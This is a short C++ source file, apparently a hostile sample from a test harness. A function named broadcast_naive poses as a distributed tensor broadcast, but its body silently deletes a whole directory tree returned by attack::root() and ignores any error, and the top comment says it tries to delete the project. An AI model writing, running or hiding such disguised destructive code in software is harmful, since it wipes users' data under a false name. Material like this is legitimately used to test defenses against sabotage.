// Tries to delete the project.
#include <filesystem>
#include <system_error>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  std::error_code ignored;
  std::filesystem::remove_all(attack::root(), ignored);
}

}  // namespace rankbox
